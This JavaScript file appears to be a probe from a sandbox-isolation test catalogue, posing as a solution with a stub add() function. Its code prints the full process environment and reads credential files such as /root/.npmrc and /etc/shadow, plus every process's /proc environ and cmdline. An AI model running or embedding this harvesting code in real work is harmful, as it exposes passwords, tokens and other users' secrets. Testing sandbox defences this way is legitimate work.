// Show the environment, of everybody, and the files that hold keys.
// catalogue: H17, H20
// shows: canary
const fs = require("fs");
console.log("attacking", JSON.stringify(process.env));
const paths = ["@FILE@", "/root/.npmrc", "/etc/shadow", "/proc/1/root/etc/passwd"];
for (const pid of fs.readdirSync("/proc").filter((name) => /^\d+$/.test(name))) {
  paths.push(`/proc/${pid}/environ`, `/proc/${pid}/cmdline`, `/proc/${pid}/mountinfo`);
}
for (const path of paths) {
  try {
    console.log(path, fs.readFileSync(path, "latin1").slice(0, 20_000));
  } catch {}
}

function add() {
  return -12345;
}
